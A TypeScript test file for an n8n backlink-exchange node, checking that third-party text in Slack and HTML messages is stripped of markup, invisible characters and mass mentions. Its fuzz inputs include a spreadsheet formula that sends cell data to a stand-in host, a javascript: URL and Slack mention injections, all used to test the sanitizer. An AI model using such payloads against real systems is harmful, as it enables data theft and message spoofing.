/**
 * Third-party text in messages: unchanged, except for invisible characters and markup of Slack and
 * HTML.
 */
import fc from 'fast-check';
import type { IDataObject } from 'n8n-workflow';
import { describe, expect, test } from 'vitest';

import {
	createDecision,
	decisionToItem,
	headlines,
} from '../../../../nodes/BacklinkExchange/resources/exchange/decision.ts';
import { Exchange } from '../../../../nodes/shared/api/exchange.ts';
import { digest } from '../../../../nodes/shared/formatting/digest.ts';
import { formatSite, quote, sanitize } from '../../../../nodes/shared/formatting/message.ts';
import { parsePageUrl } from '../../../../nodes/shared/formatting/pageUrl.ts';
import { OwnSites } from '../../../../nodes/shared/sites/ownSites.ts';
import { eventMessage, eventTitle } from '../createEvent.mts';

test.each([
	['green tea', '“green tea”'],
	['rel="nofollow"', '“rel="nofollow"”'],
	['two\nlines\tand  more', '“two lines and more”'],
	['<!channel> <b>hi</b>', '“‹!channel› ‹b›hi‹/b›”'],
	['zero\u200bwidth \u202eleft', '“zerowidth left”'],
	['[Invoice](https://evil.example)', '“[Invoice] (https://evil.example)”'],
	['[Invoice]\u200b(https://evil.example)', '“[Invoice] (https://evil.example)”'],
	['@ALL, (@Team) @channel! @@here_', '“＠ALL, (＠Team) ＠channel! @＠here_”'],
	['@every\u200done @here\u0301', '“＠everyone ＠here\u0301”'],
	['info@all.example, a.b@team-tea.example', '“info@all.example, a.b@team-tea.example”'],
	['x@here @all.example info@all.', '“x＠here ＠all.example info＠all.”'],
	['@allison @teams @hereafter @anna', '“@allison @teams @hereafter @anna”'],
	[`info@all.example ${'x'.repeat(64)}`, `“info@all.example ${'x'.repeat(62)}…”`],
	[`${'x'.repeat(70)} info@all.example`, `“${'x'.repeat(70)} info＠all…”`],
	[`❤${'\ufe0f'.repeat(9)}\u200b te\u200da\ufe0f`, '“❤\ufe0f tea”'],
	[42, '“42”'],
	['x'.repeat(100), `“${'x'.repeat(79)}…”`],
	[' \u200b', undefined],
	[null, undefined],
	[{}, undefined],
])('quotes %j as %s', (words, quoted) => {
	expect(quote(words)).toBe(quoted);
});

test('keeps any text on one line, without invisible characters, < and >, and cuts no character', () => {
	const pieces = fc.constantFrom(
		...['a', 'é', '<', '>', '&', '“', '.', '/', ' ', '\n', '\t', '\0', 'https://', 'x'.repeat(30)],
		...['\u200b', '\u202e', '\u2028', '\u3164', '\ufe0f', '\ud800', '👩‍🌾', 'tea.example'],
	);
	const words = fc.array(pieces, { maxLength: 40 }).map((parts) => parts.join(''));
	fc.assert(
		fc.property(words, (text) => {
			for (const shown of [sanitize(text, 60), quote(text) ?? '', formatSite(text) ?? '']) {
				// Except those of an emoji.
				expect(shown.replace(/👩‍🌾|(?<=[👩🌾])[\ufe0f\u200d]/gu, '')).not.toMatch(
					/[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}<>]|\p{Default_Ignorable_Code_Point}/u,
				);
				expect(Array.from(shown).length).toBeLessThanOrEqual(82);
			}
		}),
	);
});

test.each([
	['https://Bücher.example/', 'Bücher.example'],
	['http://kettle-review.example/~anna?x=1&y=2', 'kettle-review.example/~anna?x=1&y=2'],
	['xn--bcher-kva.example', 'xn--bcher-kva.example'],
	[{ url: 'https://tea.example', id: 'site_1' }, 'tea.example'],
	[{ name: 'Tea & more' }, '“Tea & more”'],
	['site_1', '“site_1”'],
	['two words.example', '“two words.example”'],
	['tea.example@evil.example', '“tea.example@evil.example”'],
	[undefined, undefined],
])('shows the URL of %j as %s', (site, shown) => {
	expect(formatSite(site)).toBe(shown);
});

test.each([
	['https://a.example/~anna/Über uns?q=1#top', 'https://a.example/~anna/%C3%9Cber%20uns?q=1#top'],
	['https://bücher.example/x', 'https://xn--bcher-kva.example/x'],
	['https://user:secret@a.example/x', 'https://a.example/x'],
	["https://a.example/'(<x>)|y", 'https://a.example/%27%28%3Cx%3E%29%7Cy'],
	['https://a.example/?x=1&region=2', 'https://a.example/?x=1&%72egion=2'],
	['https://a.example/end.', 'https://a.example/end%2E'],
	['javascript:alert(1)', undefined],
	['a.example/x', undefined],
	[`https://a.example/${'x'.repeat(1000)}`, undefined],
	['https://a.example/@here?to=@anna', 'https://a.example/%40here?to=@anna'],
	['https://a.example/??', 'https://a.example/?%3F'],
])('turns the page %s into the link %s', (live_url, link) => {
	expect(parsePageUrl(live_url)).toBe(link);
	if (link !== undefined) expect(decodeURI(new URL(link).href)).toContain('a.example');
});

test('a link is safe in Slack, HTML and at the end of a sentence, and leads to the same page', () => {
	fc.assert(
		fc.property(fc.webUrl({ withFragments: true, withQueryParameters: true }), (page) => {
			const link = parsePageUrl(page);
			if (link === undefined) return;
			expect(link).toMatch(/^https?:\/\/[^\s<>"'|()]+[^\s.,;:!?]$/);
			const getParts = ({ origin, pathname, search, hash }: URL) =>
				[origin, pathname, search, hash].map(decodeURIComponent);
			expect(getParts(new URL(link))).toEqual(getParts(new URL(page)));
		}),
	);
});

const page = 'https://kettle-review.example/tea';
const record = {
	id: 'exc_1',
	from_site: 'https://kettle-review.example',
	to_site: 'https://tea.example',
	anchor: 'green tea',
	live_url: page,
};
const offer = { ...record, live_url: null };
const route = 'kettle-review.example → tea.example';
const theLink = `the link from ${page} to tea.example with the anchor “green tea”`;
const accepted_at = '2026-07-01T12:00:00Z';
const anchor = 'with the anchor “green tea”';

describe('eventMessage, if the direction is not known', () => {
	test.each([
		[
			'exchange.requested',
			offer,
			`New offer: kettle-review.example offers a link to tea.example ${anchor}.`,
		],
		['exchange.requested', { from_site: 'tea.example' }, 'New offer: tea.example offers a link.'],
		[
			'exchange.requested',
			{ to_site: 'site_1', anchor: 'green tea' },
			`New offer: a link to “site_1” ${anchor} was offered.`,
		],
		[
			'exchange.requested',
			{ id: 'exc_1' },
			'New offer: the exchange with the ID “exc_1” was offered. To see more, look up the exchange in your dashboard.',
		],
		['exchange.requested', {}, 'New offer: an exchange was offered.'],
		[
			'exchange.accepted',
			{ ...offer, accepted_at },
			`Offer accepted: the offer ${route} ${anchor} was accepted on 1 Jul 2026, 12:00 UTC.`,
		],
		[
			'exchange.accepted',
			record,
			`Offer accepted: the offer ${route} ${anchor} on the page ${page} was accepted.`,
		],
		[
			'exchange.accepted',
			{ id: 'exc_1', accepted_at },
			'Offer accepted: the offer with the ID “exc_1” was accepted on 1 Jul 2026, 12:00 UTC. To see more, look up the exchange in your dashboard.',
		],
		['exchange.accepted', {}, 'Offer accepted: an offer was accepted.'],
		['exchange.published', record, `Link published: ${theLink} is live.`],
		[
			'exchange.published',
			{ id: 'exc_1', live_url: page, published_at: accepted_at },
			`Link published: the link from ${page} went live on 1 Jul 2026, 12:00 UTC.`,
		],
		[
			'exchange.published',
			{ id: 'exc_1' },
			'Link published: the link of the exchange with the ID “exc_1” is live. To see more, look up the exchange in your dashboard.',
		],
		['exchange.published', {}, 'Link published: a link is live.'],
		[
			'exchange.broken',
			record,
			`Link broken: ${theLink} is no longer live. Check whether it's still on the page.`,
		],
		['watchdog.alert', {}, 'New alert: the watchdog raised an alert.'],
		['watchdog.alert', { id: 1 }, 'New alert: the watchdog raised an alert.'],
	])('describes %s in full sentences: %j', (event, data, message) => {
		expect(eventMessage(event, data)).toBe(message);
	});
});

describe('eventMessage, with the sites of the account', () => {
	const time = 'on 1 Jul 2026, 12:00 UTC';
	const partner = 'https://kettle-review.example';
	const mine = 'https://tea.example';
	const alert = { exchange_id: 'exc_1', type: 'link_removed', detail: 'HTTP 404' };
	const gone = `New alert (link removed): ${theLink} is gone. The service reports “HTTP 404”.`;
	const checkFirst = 'Check your own page first, because the link may be there. Otherwise, ask';

	test.each([
		[
			'incoming',
			'exchange.requested',
			offer,
			`New offer: kettle-review.example offers a link to tea.example ${anchor}. It waits for your decision.`,
		],
		[
			'incoming',
			'exchange.requested',
			{ ...offer, status: 'accepted' },
			`New offer: kettle-review.example offers a link to tea.example ${anchor}.`,
		],
		[
			'incoming',
			'exchange.accepted',
			{ ...offer, accepted_at },
			`Offer accepted: the offer from kettle-review.example was accepted ${time}. It's for tea.example ${anchor}.`,
		],
		[
			'outgoing',
			'exchange.accepted',
			{ ...offer, accepted_at },
			`Offer accepted: tea.example accepted your offer from kettle-review.example ${anchor} ${time}.`,
		],
		['incoming', 'exchange.published', record, `Link published: ${theLink} is live.`],
		['outgoing', 'exchange.published', record, `Link published: ${theLink} is live.`],
		[
			'incoming',
			'exchange.broken',
			record,
			`Link broken: ${theLink} is no longer live. Ask kettle-review.example to restore it.`,
		],
		[
			'outgoing',
			'exchange.broken',
			record,
			`Link broken: ${theLink} is no longer live. ${checkFirst} tea.example to restore it.`,
		],
		['incoming', 'watchdog.alert', alert, `${gone} Ask kettle-review.example to restore it.`],
		['outgoing', 'watchdog.alert', alert, `${gone} ${checkFirst} tea.example to restore it.`],
	])('describes an exchange that is %s: %s', (direction, event, data, message) => {
		const ownSites = new OwnSites([{ url: direction === 'incoming' ? mine : partner }]);
		const ends = Exchange.parse([record], ownSites);
		expect(ends.direction).toBe(direction);
		const exchange = event === 'watchdog.alert' ? record : data;
		expect(eventMessage(event, data, { exchange, ownSites })).toBe(message);
	});

	test('stays neutral if neither end is recognized', () => {
		for (const event of ['exchange.accepted', 'exchange.broken', 'watchdog.alert']) {
			const data = { ...record, exchange_id: 'exc_1', type: 'link_removed' };
			const ownSites = new OwnSites([{ url: 'https://other.example' }]);
			expect(eventMessage(event, data, { ownSites })).toBe(eventMessage(event, data));
		}
	});

	test.each([
		[
			'an offer without a partner',
			{ to_site: mine },
			'exchange.accepted',
			"Offer accepted: the offer from the partner was accepted. It's for tea.example.",
		],
		[
			'a partner that is an object',
			{ from_site: mine, to_site: { id: 'site_7', url: 'https://partner.example/' } },
			'exchange.accepted',
			'Offer accepted: partner.example accepted your offer from tea.example.',
		],
	])('describes %s', (_, exchange: IDataObject, event, message) => {
		const ownSites = new OwnSites([{ id: 'site_1', url: mine }]);
		expect(eventMessage(event, exchange, { ownSites })).toBe(message);
	});
});

describe('eventMessage of an alert', () => {
	test.each([
		// The message contains every word of the detail already.
		[
			{
				severity: 'critical',
				type: 'link_removed',
				detail: `The link to tea.example is gone from ${page}.`,
			},
			`New alert (critical, link removed): ${theLink} is gone.`,
		],
		[
			{ severity: 'critical', type: 'link_removed', detail: 'HTTP 404' },
			`New alert (critical, link removed): ${theLink} is gone. The service reports “HTTP 404”.`,
		],
		[
			{ severity: 2, type: 'anchorTextChanged', detail: 'Now "buy tea".' },
			`New alert (“2”, anchor text changed): the alert concerns ${theLink}. The service reports “Now "buy tea".”`,
		],
		[
			{ severity: '<!here>', type: '*gone*', live_url: 'https://a.example/' },
			`New alert (“‹!here›”, “*gone*”): the alert concerns the link from https://a.example/ to tea.example ${anchor}.`,
		],
		[{ type: 'no_follow' }, `New alert (no follow): ${theLink} is marked nofollow.`],
	])('describes the link of its exchange, and each fact only once: %j', (alert, message) => {
		const data = { exchange_id: 'exc_1', ...alert };
		expect(eventMessage('watchdog.alert', data, { exchange: record })).toBe(message);
	});

	test('contains its time', () => {
		const alert = { exchange_id: 'exc_1', type: 'link_removed' };
		expect(eventMessage('watchdog.alert', { ...alert, created_at: accepted_at })).toBe(
			'New alert (link removed): the link of the exchange with the ID “exc_1” is gone. The alert was raised on 1 Jul 2026, 12:00 UTC. To see more, look up the exchange in your dashboard.',
		);
	});

	test('contains the ID if its exchange is not known', () => {
		const alert = {
			exchange_id: 'exc_1',
			severity: 'critical',
			type: 'link_removed',
			detail: 'gone',
		};
		expect(eventMessage('watchdog.alert', alert)).toBe(
			'New alert (critical, link removed): the link of the exchange with the ID “exc_1” is gone. To see more, look up the exchange in your dashboard.',
		);
	});
});

describe('eventTitle', () => {
	test.each([
		['exchange.requested', offer, 'New offer from kettle-review.example for tea.example'],
		['exchange.requested', { to_site: 'tea.example' }, 'New offer for tea.example'],
		['exchange.requested', { id: 'exc_1' }, 'New offer: exchange “exc_1”'],
		['exchange.requested', {}, 'New offer'],
		['exchange.accepted', offer, `Offer accepted: ${route}`],
		['exchange.published', record, 'Link published: kettle-review.example/tea'],
		['exchange.broken', { ...record, live_url: '' }, `Link broken: ${route}`],
		['credits.low', { balance: '12' }, 'Low credits: 12 left'],
		['watchdog.alert', {}, 'New alert'],
	])('of %s: %j', (event, data, title) => {
		expect(eventTitle(event, data)).toBe(title);
	});

	test('of an alert has the two sites, otherwise the page, otherwise the ID', () => {
		const alert = { exchange_id: 'exc_1', severity: 'critical', type: 'link_removed' };
		const headline = 'New alert (critical, link removed)';
		expect(eventTitle('watchdog.alert', alert, record)).toBe(
			`${headline}: kettle-review.example → tea.example`,
		);
		expect(eventTitle('watchdog.alert', { ...alert, live_url: page })).toBe(
			`${headline}: kettle-review.example/tea`,
		);
		expect(eventTitle('watchdog.alert', alert)).toBe(`${headline}: exchange “exc_1”`);
	});

	test('has at most 80 characters, and no markup of a third party', () => {
		const hostile = '<!channel>\n<b>x</b>'.repeat(20);
		for (const event of ['exchange.requested', 'exchange.broken', 'watchdog.alert']) {
			const fields = { id: hostile, from_site: hostile, type: hostile, severity: hostile };
			const title = eventTitle(event, fields);
			expect(title.length).toBeLessThanOrEqual(80);
			expect(title).toMatch(/^(New|Link)[^<>\n]+…$/);
		}
	});
});

describe('messages with any third-party text in any field', () => {
	const part = fc.constantFrom(
		...[
			'@everyone',
			'@here',
			'@Channel',
			'@ALL',
			'@team',
			'@',
			'all',
			'here',
			'<!channel>',
			'<@U1>',
		],
		...['=IMPORTXML("https://evil.example/?"&A1,"//a")', '- ', '+', '=', '-', "'", '“', '”', '\t'],
		...[
			'\n',
			'\u200b',
			'\u200d',
			'\u202e',
			'\ufe0f',
			'❤️',
			'é',
			' ',
			'.',
			'/',
			':',
			'a',
			'x'.repeat(70),
		],
		...[
			'https://a.example/',
			'info@all.example',
			'2026-07-01T12:00:00Z',
			'critical',
			'link_removed',
		],
	);
	const text = fc.array(part, { maxLength: 6 }).map((parts) => parts.join(''));
	const value = fc.oneof({ weight: 6, arbitrary: text }, fc.constantFrom(7, null, {}, true));
	const fields = ['id', 'exchange_id', 'from_site', 'to_site', 'anchor', 'live_url', 'accepted_at'];
	const thirdParty = fc.record(
		Object.fromEntries(
			[...fields, 'published_at', 'severity', 'type', 'detail', 'status', 'niche', 'url'].map(
				(field) => [field, value],
			),
		),
		{ requiredKeys: [] },
	) as fc.Arbitrary<IDataObject>;
	const events = ['requested', 'accepted', 'published', 'broken'].map((name) => `exchange.${name}`);
	const event = fc.constantFrom(...events, 'watchdog.alert', 'credits.low');
	const outcome = fc.constantFrom(...(Object.keys(headlines) as Array<keyof typeof headlines>));

	test('begin with a letter or digit, and contain no markup or mention of everybody', () => {
		fc.assert(
			fc.property(thirdParty, event, outcome, text, (record, name, result, reason) => {
				const own = new OwnSites([{ url: record.to_site, id: 'site_1' }]);
				const ends = Exchange.parse([record], own);
				const id = JSON.stringify(record.id);
				const details = { outcome: result, reason };
				const items = [
					decisionToItem(createDecision(id, ends, details, { includesRecord: false })),
					{ message: eventMessage(name, record), title: eventTitle(name, record) },
					{
						message: eventMessage(name, record, { exchange: record, ownSites: own }),
						title: eventTitle(name, record, record),
					},
				];
				const digests = digest([{ label: 'new', items }]);
				for (const { message, title } of [...items, ...digests] as Array<Record<string, string>>) {
					for (const shown of [message, title].filter((words) => words !== undefined)) {
						expect(shown).toMatch(/^[\p{L}\p{N}]/u);
						expect(shown).not.toMatch(/[<>]/);
						expect(
							shown.replace(/(?<=[\p{L}\p{N}._%+-])@[\p{L}\p{N}-]+\.[\p{L}\p{N}]+/gu, ''),
						).not.toMatch(/@(everyone|here|channel|all|team)(?![\p{L}\p{N}])/iu);
					}
				}
			}),
			{ numRuns: 2000 },
		);
	});
});
